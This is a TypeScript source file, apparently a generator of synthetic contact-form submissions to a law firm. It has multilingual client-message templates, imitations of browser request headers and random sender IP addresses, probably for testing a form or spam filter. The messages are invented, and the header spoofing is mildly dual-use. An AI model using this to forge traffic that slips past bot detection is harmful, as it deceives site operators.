  "Just tell me honestly if it's worth it.",
  'Looking to hire someone by <date>.',
  '',
  '',
  '',
];
const goodbyes = [
  'Thanks',
  'Thank you!',
  'Thank you for your time,\n<me>',
  'God bless',
  'Best,\n<me> <family>',
  'Regards',
  'ty',
  'Sincerely,\n<me> <family>\n<number>',
  'Thanks in advance.',
  'Respectfully',
  '',
  '',
  '',
  '',
  '',
  '',
  'Sent from my iPhone',
  'Sent from my Galaxy',
  'Have a blessed day',
  'Appreciate it.',
];
const shorts = [
  'please call me',
  'Call me <number>',
  'need a lawyer',
  'divorce',
  'How much for a will?',
  'Car accident <date>',
  'Need help with custody asap',
  'call me back pls',
  'Free consultation?',
  'DUI last night',
  'Do you handle evictions',
  'Are you open on <weekday>?',
  'I got fired.',
  'Green card question',
  'Hi',
  'hello?',
  'I would like to make an appointment.',
  'Do you speak Spanish?',
  'Need an expungement',
  'my dad died',
  'name change for my kid',
  'traffic ticket <city>',
  'Returning your call',
  'Returning a call from <name>',
  'Hit by a car. Call <number>',
  'Do you take workers comp?',
  'help',
  'Help!!!',
  'Bankruptcy ch 7',
  'Please call after <time>',
  'restraining order',
  'slip and fall',
  'work visa',
  'Looking for a probate attorney in <city>',
  'Prenup',
  'wrongful termination',
  'Contract review, <n> pages',
  'Consult please',
  'Landlord problem',
  'child support mod',
  'I need to speak with somebody about my mother',
  '?',
  'testing is this on',
  'LLC setup',
  'How do I fire my current lawyer',
  'same as before, <me>',
  'Got served',
  'appointment <weekday> <time> ok?',
  'question about my case',
  'Notary?',
  'adoption',
  'do u do immigration',
  'Power of attorney for my mom',
  'speeding 94 in 70',
  'denied SSDI',
  'what are ur fees',
  'text me dont call',
  'dog bite',
  'Trust',
  'Need a second opinion',
  'how late are you there today',
  'it is about a house',
  'Hurt at work',
  'want to sue my employer',
  'is this confidential',
  'Fender bender, other guy’s insurance is being weird',
  'I have court tomorrow',
  'court <date> need someone',
  'can you get my license back',
  'asap please 🙏',
  'Call me 😭',
  '👍 yes <weekday> works',
  'police took my car',
  'nursing home neglect',
  'Ex moved w kids',
  'unpaid wages',
  'mold',
  'my visa expires in <month>',
];
const events = [
  'I called them and they said to wait.',
  'got the letter (certified mail)',
  'went to the ER, waited <n> hours',
  'texted {him|her|them}, no answer',
  'first appointment with Dr. <surname>',
  'filed the form online, confirmation <digits>',
  'they sent {someone|two men} to the house',
  'paid <money>, have the receipt',
  'spoke to a supervisor named <name>',
  'found out about the other account',
  'police came, report taken by Officer <surname>',
  'the second letter, with a different amount',
  'hearing was moved',
  '{he|she} admitted it in front of my sister',
  'sent an email, read receipt the same day',
  'went back there with my brother-in-law',
  'lost my job over all this',
  'they changed the locks',
  'got a voicemail at <time>, saved it',
  'asked for the file, was told there is no file',
  'my blood pressure was 180',
  'signed something on a tablet, no copy given',
  'the insurance closed the claim',
  'took pictures, about <m> of them',
];
const afterthoughts = [
  'I should add that I did not sleep for most of this, so forgive me if I get a date wrong. I wrote them on the calendar in the kitchen but the calendar for last year is gone.',
  'Before you ask: yes, I looked into legal aid. They told me I make too much, by <money>. I do not feel like someone who makes too much.',
  'The lawyer I had before, a Mr. <surname>, told me it would take six weeks. It has been <m> weeks. I do not want to speak badly of him, but I want my file back and I want somebody who reads it.',
  'What makes me so angry is that this could have been fixed with one phone call back in <month>. I offered. I have the text where I offered. They sent a thumbs up and then did the opposite.',
  'My {sister|neighbor|pastor} thinks I should let it go. Maybe. But my kids watch how I deal with this, and I would like them to see that you can stand up and say no in a decent way.',
  'I have a binder with tabs: letters, bills, photos, notes of phone calls. My daughter laughed at the binder. It is a good binder and I can drop it off on <weekday>.',
  'I live about <m> minutes from {<city>|downtown} and do not drive on the highway since this happened, so if there is a way to do the first meeting by phone that would be a relief.',
  'For context, I came to <city> in <year>, worked at <company> almost the whole time, never missed a rent payment, and never had anything to do with a court besides jury duty.',
  'You will probably hear a different version from the other side. That is fine. I only ask that someone looks at the dates, because the dates do not lie and theirs do not add up.',
  'I also have a smaller question that may be connected: they still have my {deposit|tools|laptop|title}, and every time I ask for it they bring up a fee that was never in the papers.',
];
// Sentences with links that honest people have a reason to send.
const evidence = [
  'Pictures of the {car|damage|stairs|wound} are here: https://photos.example/album/<code>',
  'docket is at https://www.courts.example/case/<case>',
  'the listing is still up: https://homes.example/listing/<digits>',
  'It was in the news, www.valleycourier.example/local/<slug>',
  'The contract is in our drive: https://drive.example/file/d/<code>/view?usp=sharing',
  'his post, before he deletes it: https://m.facebook-like.example/story.php?id=<digits>',
  'our website is <trade>builders.example',
  'Dash cam: https://youtu-be.example/<code>',
  'fundraiser my coworkers set up https://gofund.example/f/help-for-<name>',
  'This is the apartment: https://rentals.example/<trade>-apts/<digits>?ref=share',
  'https://dropfiles.example/s/<code>?dl=0 (medical records, password on request)',
  'The rule I mean: https://www.uscis-info.example/forms/i-<n>0<n>',
  'The job ad they put up after firing me: https://jobs.example/view/<digits>',
  'map of where it happened https://maps.example/?q=<house>+<street>+St',
  'my business page: http://www.<trade>-plumbing.example',
];
const quotes = [
  'This is what they sent:\n> Dear tenant,\n> your lease ends on <date>. You are asked to leave the unit broom clean.\n> {<company>|The Management}',
  '-----Original Message-----\nFrom: <name> <surname> <<mail>>\nSubject: RE: your claim\n\nWe have reviewed claim <digits> and cannot extend the offer past <date>.',
  'On <date>, <name> <surname> wrote:\n> Do not contact me again except through my attorney.\n> The kids stay here until the judge says otherwise.',
  'Their e-mail said: "Per policy we are unable to release the final check until all property is returned." I returned everything.',
  'From: hr@<trade>.example\nTo: me\n"Your position has been eliminated effective <date>. Your badge will stop working at <time>."',
  'FW: notice\n>> Balance due <money>\n>> pay at https://pay.<trade>.example/invoice/<digits>\n> I told them this is not mine',
];

const spanishOpenings = [
  'Hola,',
  'Buenas tardes.',
  'Buenos días,',
  'Buenas',
  'Hola buenas tardes disculpe la molestia',
  'Saludos.',
  'Dios los bendiga.',
  '',
  '',
  '',
  'Me llamo <me>.',
  'Hola licenciado',
];
const spanishTroubles = [
  'mi hermana limpia casas y la señora la acusa de robar un anillo, la policía ya vino {dos|tres} veces',
  'Soy chofer de {troca|camión}, me dieron por detrás en el 10, me duele el cuello y la cintura.',
  'ocupo saber si mi niño nacido aquí me puede pedir cuando cumpla 21',
  'En la empacadora me corté {dos dedos|la mano} y me mandaron a mi casa sin doctor.',
  'El papá de mi hija quiere quitarme la custodia porque me junté con otra persona.',
  'perdi mi residencia en el correo, tengo viaje en <mes>',
  'Me negaron el desempleo, hice la apelación y tengo audiencia por teléfono.',
  'Nos subieron la renta de golpe {$400|$600} y hay cucarachas por todos lados.',
  'Me casé hace <n> años con ciudadano y ahora me amenaza con migración cuando peleamos.',
  'quiero poner una orden de restriccion contra un vecino, tengo videos',
  'Mi mamá tiene Alzheimer y necesitamos un poder para vender su casa en <city>.',
  'Vendí mi camioneta y el comprador chocó antes de cambiar el título, ahora me demandan a mí.',
  'Trabajo en un restaurante, nos quitan las propinas y nos pagan en efectivo.',
  'mi cita de asilo es el <n> de <mes> y todavia no tengo traducciones',
  'Al abuelo lo dejaron caer en el asilo de ancianos, cadera rota.',
  'Necesito cambiar el apellido de mis gemelos, el padre nunca los reconoció.',
  'Firmé un contrato en inglés para unas ventanas y me pusieron un gravamen en la casa.',
  'Mi sobrino está en el centro de detención de <city>, tiene fianza de <money>, ¿cómo se paga?',
  'Quiero abrir una LLC para mi lonchera, ¿ustedes hacen eso?',
  'tuve un accidente {en el freeway|saliendo del trabajo|con un camión} el <n> de <mes> y el seguro no me quiere pagar',
  'Mi esposo me dejó con {dos|tres} niños y no manda dinero desde <mes>.',
  'Necesito ayuda para {arreglar mis papeles|renovar mi permiso de trabajo|pedir a mi mamá}. Tengo {<m>|doce|veinte} años aquí.',
  'Detuvieron a mi {hermano|marido|primo} {anoche|el lunes} en <city> y no sabemos a dónde se lo llevaron.',
  'Quiero divorciarme, él vive en {Honduras|Puebla|Texas} y no sé su dirección.',
  'Me caí en {la fábrica|el restaurante donde trabajo|la marqueta} y me lastimé la espalda. El patrón dice que no diga nada.',
  'No me pagaron las últimas <n> semanas en {la construcción|la cocina|la limpieza}, me deben <money>.',
  'Mi hijo de <age> años tiene corte el <n> de <mes> y necesitamos abogado.',
  'Quisiera saber cuánto cobran por {una visa U|un testamento|una custodia|ciudadanía}.',
  'El dueño nos quiere sacar del departamento y tenemos contrato hasta <mes>.',
  'fui víctima de violencia domestica y me dijeron que hay una visa para eso',
  'Un notario me cobró <money> y nunca metió los papeles, ya no contesta.',
  'Me llegó una carta de la corte y no la entiendo, dice <case>.',
  'mi papá falleció y dejó un terreno y una casa en <city>, somos {cinco|seis|siete} hermanos y no nos ponemos de acuerdo',
  'Me pararon manejando sin licencia y ahora tengo DUI también, es mi primera vez.',
  'Tengo TPS y quiero viajar a ver a mi mamá que está muy enferma.',
  'Me despidieron embarazada de <company>.',
  'El perro de la vecina mordió a mi niña de <age> años, <m> puntadas.',
  'Quiero que mi ex regrese a mis hijos, se los llevó sin permiso a {México|Guatemala|otro estado}.',
  'Tengo un negocio de comida y me llegó una demanda de un cliente que dice que se enfermó.',
  'Soy ciudadano y mi esposa entró sin visa, tenemos <n> hijos, ¿se puede arreglar aquí o tiene que salir?',
  'Compré un carro en <company> y me lo quitaron estando al corriente.',
];
const spanishDetails = [
  'Tengo fotos y {testigos|el reporte de policía}.',
  'Mi número es <number>.',
  'Trabajo de noche, llamen antes de las 3.',
  'No tengo antecedentes.',
  'Hablo poquito inglés.',
  'Vivo en <city>, por la {calle|avenida} <street>.',
  'Me recomendó una {amiga|señora de la iglesia|clienta de ustedes}.',
  'Ya tengo <n> meses esperando.',
  'La corte es el <n> de <mes>.',
  '',
  '',
  '',
];
const spanishAsks = [
  '¿Me pueden ayudar?',
  '¿Cuánto cuesta la consulta?',
  'Llámenme por favor.',
  'Gracias, espero su respuesta.',
  'Necesito una cita urgente.',
  '¿Hay alguien que hable español?',
  'grasias',
  'Mil gracias.',
  '¿Aceptan pagos?',
  'Dígame qué papeles llevo.',
  'Por favor es urgente 🙏',
  'que dios los bendiga',
  '',
];
const spanishShorts = [
  'llámeme por favor',
  'Necesito abogado',
  'accidente de carro',
  'ayuda con asilo',
  'cuánto cobran x divorcio',
  'me pueden marcar al <number>',
  'Hablan español?',
  'Consulta de inmigracion',
  'ocupo una cita',
  'me chocaron',
  'Buenas tardes una pregunta',
  'permiso de trabajo',
  'custodia',
  'información por favor',
];

const arabicOpenings = [
  'السلام عليكم',
  'مرحبا،',
  'تحية طيبة وبعد،',
  'السلام عليكم ورحمة الله وبركاته',
  'صباح الخير',
  'لو سمحت',
  '',
  '',
];
const arabicTroubles = [
  'جاري رفع علي دعوى بسبب السور ووصلتني ورقة من المحكمة رقمها <case>.',
  'والدتي عمرها <elder> سنة وسقطت في دار الرعاية ولم يخبرونا إلا بعد يومين.',
  'أنا طالب في الجامعة وانتهت إقامتي لأن الجامعة لم تجدد الأوراق.',
  'دفعت <money> لمقاول ليصلح المطبخ واختفى.',
  'زوجتي أخذت الأولاد إلى ولاية أخرى وأريد أن أراهم.',
  'أريد فتح مطعم مع ابن عمي ونحتاج عقد شراكة.',
  'أخي محتجز عند الهجرة في <city> منذ <n> أيام، هل يمكن إخراجه بكفالة؟',
  'أعمل سائق أوبر وصدمتني شاحنة والتأمين يماطل.',
  'تعرضت لحادث سيارة في <city> قبل {أسبوع|أسبوعين|شهر} وشركة التأمين ترفض الدفع.',
  'زوجي تركني مع {طفلين|ثلاثة أطفال} ولا يدفع النفقة منذ <n> أشهر.',
  'قدمت طلب لجوء سنة <year> ولم يصلني موعد المقابلة حتى الآن.',
  'أريد تقديم طلب لم الشمل لزوجتي وهي في {الأردن|لبنان|مصر|العراق}.',
  'تم فصلي من العمل في <company> بعد أن طلبت إجازة للصلاة يوم الجمعة.',
  'ابني عمره <age> سنة واتهموه بالشجار في المدرسة وعنده محكمة يوم <date>.',
  'البطاقة الخضراء ستنتهي قريباً وعندي مخالفة قديمة، هل يؤثر ذلك على التجديد؟',
  'صاحب البيت يريد إخراجنا والعقد ينتهي بعد <n> أشهر.',
  'والدي توفي رحمه الله وترك بيتاً ومحلاً ونحن {أربعة|خمسة} إخوة ونريد تقسيم الميراث بشكل قانوني.',
  'عندي محطة بنزين وشريكي سحب <money> من الحساب دون علمي.',
  'سقطت في المستودع وانكسرت يدي والمدير يقول ليس ذنب الشركة.',
  'أحتاج إلى محامٍ يتكلم العربية بخصوص طلاق وحضانة.',
  'أوقفتني الشرطة وأخذوا السيارة ولم يعطوني أي ورقة.',
  'رفضوا طلب الجنسية لأني سافرت أكثر من ستة أشهر، هل أستطيع الاستئناف؟',
];
const arabicAsks = [
  'أرجو الاتصال بي على الرقم <number>',
  'كم تكلفة الاستشارة؟',
  'شكراً جزيلاً',
  'هل عندكم مترجم؟',
  'أرجو الرد في أقرب وقت وجزاكم الله خيراً',
  'متى أستطيع الحضور إلى المكتب؟',
  'وشكرا لكم',
  'لا أتكلم الإنجليزية جيداً، أرسلوا لي رسالة من فضلكم.',
  'هل الاستشارة الأولى مجانية؟',
];

interface Tongue {
  languages: string;
  first: string[];
  last: string[];
  messages: string[];
}
const tongues: Tongue[] = [
  {
    languages: 'pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7',
    first: ['João', 'Mariana', 'Rafael', 'Luciana', 'Thiago'],
    last: ['Silva', 'Souza', 'Oliveira', 'Ferreira', 'Nogueira'],
    messages: [
      'Boa tarde, sou brasileiro e moro em <city> há <n> anos. Quero saber sobre o visto para minha esposa. Meu WhatsApp é <number>.',
      'Sofri um acidente na obra, caí da escada, o patrão não quer pagar o hospital. Tenho as contas, uns <money>.',
      'Preciso de um advogado para divórcio, casamos no Brasil em <year> mas moramos aqui.',
      'oi vcs fazem consulta por video? é sobre green card',
    ],
  },
  {
    languages: 'fr-FR,fr;q=0.9,en;q=0.7',
    first: ['Aminata', 'Jean-Pierre', 'Claire', 'Moussa', 'Élodie'],
    last: ['Diallo', 'Lefebvre', 'Traoré', 'Moreau', 'Mbaye'],
    messages: [
      'Bonjour, je cherche un avocat pour une demande d’asile. Je viens de Guinée, arrivée en <year>. Mon entretien est le <date>. Merci de me rappeler au <number>.',
      'Bonjour Maître, notre société (Lyon) a un litige avec un client à <city>, facture impayée de <money>. Pouvez-vous nous proposer un rendez-vous ?',
      'mon mari m’empêche de voir mes enfants depuis <n> semaines, que puis-je faire svp',
    ],
  },
  {
    languages: 'zh-CN,zh;q=0.9,en;q=0.8',
    first: ['伟', '芳', '秀英', '小明', 'Li'],
    last: ['王', '陈', '林', '刘', 'Zhang'],
    messages: [
      '你好，我在<city>开餐馆，被员工起诉加班费，想咨询一下律师费用。电话<number>',
      '您好！我的H1B被RFE了，截止日期是<date>，请问你们可以处理吗？谢谢',
      '车祸，对方全责，腰受伤，已经看医生<n>次。请用中文联系我。',
      '想办离婚，有一个<age>岁的孩子，房子在<street>街，不知道怎么分。',
    ],
  },
  {
    languages: 'vi-VN,vi;q=0.9,en-US;q=0.6',
    first: ['Thảo', 'Minh', 'Hương', 'Tuấn'],
    last: ['Nguyễn', 'Trần', 'Phạm', 'Lê'],
    messages: [
      'Chào luật sư, tôi bị té ở tiệm nail nơi tôi làm, chủ không chịu trả tiền bác sĩ. Xin gọi lại <number>.',
      'Tôi muốn bảo lãnh ba mẹ qua Mỹ, tôi có quốc tịch từ năm <year>. Chi phí bao nhiêu ạ?',
      'Em muốn hỏi về ly hôn, chồng em đang ở <city>. Cảm ơn.',
    ],
  },
  {
    languages: 'ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7',
    first: ['Ольга', 'Дмитрий', 'Светлана', 'Артём'],
    last: ['Иванова', 'Кузнецов', 'Мельник', 'Соколов'],
    messages: [
      'Здравствуйте! Мне нужен адвокат по убежищу, интервью назначено на <date>. Говорю по-русски, английский слабый.',
      'Добрый день, попал в аварию в <city>, страховая предлагает <money>, это мало. Перезвоните <number>',
      'хочу оформить брачный договор, я из Минска, жених американец, свадьба в <n> месяце',
    ],
  },
  {
    languages: 'uk-UA,uk;q=0.9,ru;q=0.6,en;q=0.5',
    first: ['Олена', 'Андрій', 'Наталія'],
    last: ['Шевченко', 'Бондар', 'Коваленко'],
    messages: [
      'Доброго дня. Ми тут за програмою U4U, закінчується в <n> місяці. Що нам робити далі? Дякую.',
      'Працювала на складі <company>, не заплатили за <n> тижні. Чи можете допомогти?',
    ],
  },
  {
    languages: 'ko-KR,ko;q=0.9,en-US;q=0.8',
    first: ['지훈', '서연', 'Minji'],
    last: ['김', '박', 'Lee'],
    messages: [
      '안녕하세요. 세탁소를 운영하는데 건물주가 리스 연장을 안 해줍니다. 상담 가능할까요? <number>',
      '교통사고 상담 부탁드립니다. 사고는 <date>에 <city>에서 났고 상대방 보험이 있습니다.',
      '유학생인데 OPT 신청이 늦어졌어요. 방법이 있을까요?',
    ],
  },
  {
    languages: 'ht-HT,fr;q=0.8,en;q=0.6',
    first: ['Roseline', 'Jean', 'Wideline'],
    last: ['Pierre', 'Baptiste', 'Desrosiers'],
    messages: [
      'Bonjou, mwen bezwen yon avoka pou TPS mwen. Mwen rete <city> depi <year>. Rele m nan <number> tanpri.',
      'mwen te fè aksidan nan travay, pye m kase, bòs la pa vle peye anyen',
    ],
  },
  {
    languages: 'fil-PH,fil;q=0.9,en-US;q=0.8,en;q=0.7',
    first: ['Jocelyn', 'Rommel', 'Maricel'],
    last: ['Dela Cruz', 'Santos', 'Bautista'],
    messages: [
      'Good day po, caregiver po ako sa <city>, <n> months na pong hindi bayad ang overtime ko. Pwede po ba mag consult?',
      'Magkano po ang fiancee visa? Nasa Cebu po ang girlfriend ko. Salamat po <number>',
    ],
  },
  {
    languages: 'fa-IR,fa;q=0.9,en-US;q=0.7',
    first: ['رضا', 'مینا', 'Shirin'],
    last: ['کریمی', 'رضایی', 'Ahmadi'],
    messages: [
      'سلام، پرونده پناهندگی من از سال <year> باز است و هنوز مصاحبه نشده‌ام. لطفا تماس بگیرید <number>',
      'برای طلاق توافقی وقت مشاوره می‌خواهم. همسرم در <city> زندگی می‌کند. هزینه چقدر است؟',
    ],
  },
  {
    languages: 'hi-IN,hi;q=0.9,en-IN;q=0.8,en;q=0.7',
    first: ['Rajesh', 'Sunita', 'अमित'],
    last: ['Sharma', 'Verma', 'कुमार'],
    messages: [
      'नमस्ते, मेरा H-1B एक्सटेंशन रिजेक्ट हो गया है। <date> तक जवाब देना है। कृपया फोन करें।',
      'ji mera motel ka business hai <city> me, partner paise nahi de raha, total <money>. aap ye case lete ho?',
    ],
  },
  {
    languages: 'de-DE,de;q=0.9,en;q=0.8',
    first: ['Jürgen', 'Anke'],
    last: ['Hoffmann', 'Weiß'],
    messages: [
      'Guten Tag, meine Großtante ist in <city> verstorben und ich soll Miterbe sein. Das Gericht hat mir ein Schreiben geschickt (<case>). Übernehmen Sie so etwas?',
      'Sehr geehrte Damen und Herren, wir sind ein Maschinenbauer und brauchen einen Anwalt vor Ort wegen einer Lieferung im Wert von <money>.',
    ],
  },
  {
    languages: 'so-SO,so;q=0.9,en;q=0.7',
    first: ['Abdi', 'Hodan'],
    last: ['Warsame', 'Farah'],
    messages: [
      'Asc, waxaan rabaa qareen sharciga socdaalka. Waxaan joogaa <city>. Fadlan i soo wac <number>.',
      'shil gaari ayaan galay <date>, ma i caawin kartaan',
    ],
  },
  {
    languages: 'pl-PL,pl;q=0.9,en;q=0.6',
    first: ['Agnieszka', 'Marek'],
    last: ['Wójcik', 'Zieliński'],
    messages: [
      'Dzień dobry, miałem wypadek na budowie w <city>, spadłem z rusztowania. Proszę o telefon <number>, po polsku jeśli można.',
      'Chcę zapytać o rozwód, mąż wrócił do Polski w <year> roku.',
    ],
  },
];

// The request headers that browsers and programs send.

interface Browser {
  agent: string;
  accept: string;
  encoding?: string;
  hints?: Headers;
  /** Whether the browser sends the sec-fetch headers, as recent browsers do. */
  recent: boolean;
}

const acceptChrome =
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7';
const acceptPlain = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8';
const zstd = 'gzip, deflate, br, zstd';

function chrome(
  dice: Dice,
  system: 'windows' | 'mac' | 'android' | 'chromebook',
  brand: 'Google Chrome' | 'Microsoft Edge' | 'Brave' = 'Google Chrome',
  version = dice.between(128, 141),
): Browser {
  const platform = {
    windows: ['Windows NT 10.0; Win64; x64', '"Windows"'],
    mac: ['Macintosh; Intel Mac OS X 10_15_7', '"macOS"'],
    android: ['Linux; Android 10; K', '"Android"'],
    chromebook: ['X11; CrOS x86_64 14541.0.0', '"Chrome OS"'],
  }[system];
  const mobile = system === 'android';
  const edge = brand === 'Microsoft Edge' ? ` Edg/${version}.0.0.0` : '';
  return {
    agent: `Mozilla/5.0 (${platform[0] ?? ''}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.0.0 ${mobile ? 'Mobile ' : ''}Safari/537.36${edge}`,
    accept: acceptChrome,
    encoding: zstd,
    recent: true,
    hints: {
      'sec-ch-ua': `"${brand}";v="${version}", "Not?A_Brand";v="8", "Chromium";v="${version}"`,
      'sec-ch-ua-mobile': mobile ? '?1' : '?0',
      'sec-ch-ua-platform': platform[1] ?? '',
    },
  };
}

function safari(dice: Dice, phoneOrMac: 'iPhone' | 'iPad' | 'Mac'): Browser {
  const version = dice.one(['16.6', '17.4', '17.6', '18.1', '18.3', '18.5', '26.0']);
  const system = {
    iPhone: `iPhone; CPU iPhone OS ${version.replace('.', '_')} like Mac OS X`,
    iPad: `iPad; CPU OS ${version.replace('.', '_')} like Mac OS X`,
    Mac: 'Macintosh; Intel Mac OS X 10_15_7',
  }[phoneOrMac];
  return {
    agent: `Mozilla/5.0 (${system}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${version} ${phoneOrMac === 'Mac' ? '' : 'Mobile/15E148 '}Safari/${phoneOrMac === 'Mac' ? '605.1.15' : '604.1'}`,
    accept: acceptPlain,
    encoding: 'gzip, deflate, br',
    recent: true,
  };
}

function firefox(dice: Dice, system: string, version = dice.between(128, 144)): Browser {
  return {
    agent: `Mozilla/5.0 (${system}; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`,
    accept: acceptPlain,
    encoding: zstd,
    recent: version >= 90,
  };
}

/** Returns a browser inside an app, with which people open links in posts and ads. */
function inApp(dice: Dice): Browser {
  if (dice.chance(0.5)) {
    const app = dice.one([
      '[FBAN/FBIOS;FBAV/490.0.0.39.106;FBDV/iPhone14,5]',
      'Instagram 348.0.0.21.98 (iPhone15,2; iOS 17_5; en_US)',
      'GSA/335.0.675',
    ]);
    return {
      agent: `Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 ${app}`,
      accept: acceptPlain,
      encoding: 'gzip, deflate, br',
      recent: true,
    };
  }
  const version = dice.between(126, 140);
  return {
    agent: `Mozilla/5.0 (Linux; Android 14; SM-A156U Build/UP1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/${version}.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/485.1.0.55.79;]`,
    accept: acceptChrome,
    encoding: zstd,
    recent: true,
    hints: {
      'sec-ch-ua': `"Android WebView";v="${version}", "Chromium";v="${version}"`,
      'sec-ch-ua-mobile': '?1',
      'sec-ch-ua-platform': '"Android"',
      'x-requested-with': 'com.facebook.katana',
    },
  };
}

function modernBrowser(dice: Dice): Browser {
  return dice.weighted<() => Browser>([
    [26, () => safari(dice, 'iPhone')],
    [20, () => chrome(dice, 'android')],
    [22, () => chrome(dice, 'windows')],
    [7, () => chrome(dice, 'mac')],
    [7, () => safari(dice, 'Mac')],
    [6, () => chrome(dice, 'windows', 'Microsoft Edge')],
    [
      4,
      () =>
        firefox(
          dice,
          dice.one(['Windows NT 10.0; Win64; x64', 'X11; Linux x86_64', 'Macintosh; Intel Mac OS X 10.15']),
        ),
    ],
    [2, () => firefox(dice, 'Android 14; Mobile')],
    [3, () => safari(dice, 'iPad')],
    [2, () => chrome(dice, 'chromebook')],
    [1, () => chrome(dice, 'mac', 'Brave')],
    [6, () => inApp(dice)],
  ])();
}

function oldBrowser(dice: Dice): Browser {
  return dice.one<Browser>([
    {
      agent: 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko',
      accept: 'text/html, application/xhtml+xml, */*',
      encoding: 'gzip, deflate',
      recent: false,
    },
    {
      agent:
        'Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_5 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) Version/9.0 Mobile/13G36 Safari/601.1',
      accept: acceptPlain,
      encoding: 'gzip, deflate',
      recent: false,
    },
    {
      agent:
        'Mozilla/5.0 (iPad; CPU OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1',
      accept: acceptPlain,
      encoding: 'br, gzip, deflate',
      recent: false,
    },
    {
      agent:
        'Mozilla/5.0 (Linux; Android 5.1.1; SM-J320A Build/LMY47V) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.98 Mobile Safari/537.36',
      accept: acceptChrome,
      encoding: 'gzip, deflate, br',
      recent: false,
    },
    {
      agent: 'Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0',
      accept: acceptPlain,
      encoding: 'gzip, deflate, br',
      recent: false,
    },
    {
      agent: 'Mozilla/5.0 (Windows NT 5.1; rv:52.9) Gecko/20100101 Goanna/4.5 Firefox/52.9 Mypal/28.9.3',
      accept: acceptPlain,
      encoding: 'gzip, deflate',
      recent: false,
    },
    {
      agent: 'Mozilla/5.0 (Mobile; Nokia_2720_Flip; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2',
      accept: acceptPlain,
      encoding: 'gzip, deflate',
      recent: false,
    },
  ]);
}

/** Returns a browser that runs no script, or runs it on a remote server only. */
function plainBrowser(dice: Dice): Browser {
  return dice.one<Browser>([
    {
      agent: 'w3m/0.5.3+git20230121',
      accept: 'text/html, text/*;q=0.5, image/*',
      encoding: 'gzip, compress, bzip, bzip2, deflate',
      recent: false,
    },
    {
      agent: 'Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8',
      accept: 'text/html, text/plain, text/sgml, text/css, */*;q=0.01',
      encoding: 'gzip, compress, bzip2',
      recent: false,
    },
    { agent: 'ELinks/0.13.2 (textmode; Linux; 120x40-2)', accept: '*/*', encoding: 'gzip', recent: false },
    {
      agent: 'Links (2.28; Linux 6.1.0 x86_64; GNU C 12.2; text)',
      accept: '*/*',
      encoding: 'gzip, deflate, br',
      recent: false,
    },
    {
      agent: 'Opera/9.80 (Android; Opera Mini/36.2.2254/191.303; U; en) Presto/2.12.423 Version/12.16',
      accept: 'text/html, application/xml;q=0.9, application/xhtml+xml, */*;q=0.1',
      encoding: 'gzip, deflate',
      recent: false,
    },
    { agent: 'Mozilla/5.0 (X11; Linux x86_64) NetSurf/3.11', accept: '*/*', encoding: 'gzip', recent: false },
    { agent: 'Dillo/3.1.1', accept: 'text/*,image/*,*/*;q=0.2', encoding: 'gzip, deflate', recent: false },
  ]);
}

interface Manner {
  languages: string;
  /** Whether the page's script sends the form instead of the browser. */
  fetched?: boolean;
  frame?: boolean;
  /** The headers that the sender's browser or its extensions leave out. */
  without?: ('referer' | 'language' | 'origin')[];
  site?: string;
}

/** @returns the headers that a browser sends along with a form from Foyer's own page */
function browserHeaders(browser: Browser, manner: Manner): Headers {
  const headers: Headers = { ...browser.hints };
  const without = manner.without ?? [];
  const sentByScript = manner.fetched === true;
  headers['user-agent'] = browser.agent;
  headers['accept'] = sentByScript ? '*/*' : browser.accept;
  // Chrome and Safari have long sent the origin with a form. A browser that withholds the origin sends null.
  if (browser.recent || browser.agent.includes('AppleWebKit'))
    headers['origin'] = without.includes('origin') ? 'null' : foyer;
  if (browser.recent) {
    headers['sec-fetch-site'] = manner.site ?? 'same-origin';
    headers['sec-fetch-mode'] = sentByScript ? 'cors' : 'navigate';
    headers['sec-fetch-dest'] = sentByScript ? 'empty' : manner.frame === true ? 'iframe' : 'document';
    // Safari sends neither sec-fetch-user nor upgrade-insecure-requests.
    if (!sentByScript && !browser.agent.includes('AppleWebKit/605'))
      Object.assign(headers, { 'sec-fetch-user': '?1', 'upgrade-insecure-requests': '1' });
  }
  if (!without.includes('referer')) headers['referer'] = manner.frame === true ? `${formPage}?embed=1` : formPage;
  if (browser.encoding !== undefined) headers['accept-encoding'] = browser.encoding;
  if (!without.includes('language')) headers['accept-language'] = manner.languages;
  return headers;
}

// The networks of the senders.

function homeNetwork(dice: Dice): string {
  if (dice.chance(0.3)) {
    const start = dice.one(['2601:646', '2600:1700', '2607:fb90', '2600:1010', '2603:8000', '2a02:8109']);
    return `${start}:${dice.letters(4, '123456789abcdef')}:${Array.from({ length: 5 }, () => dice.letters(4, '123456789abcdef')).join(':')}`;
  }
  return `${dice.one([24, 47, 66, 67, 68, 71, 73, 76, 96, 98, 99, 108, 172, 173, 174])}.${dice.between(32, 250)}.${dice.between(0, 255)}.${dice.between(1, 254)}`;
}

function foreignNetwork(dice: Dice): string {
  return `${dice.one([14, 27, 36, 39, 41, 49, 78, 81, 85, 95, 102, 103, 117, 122, 177, 179, 186, 189, 190, 197, 200, 201])}.${dice.between(1, 250)}.${dice.between(0, 255)}.${dice.between(1, 254)}`;
}

function rentedServer(dice: Dice): string {
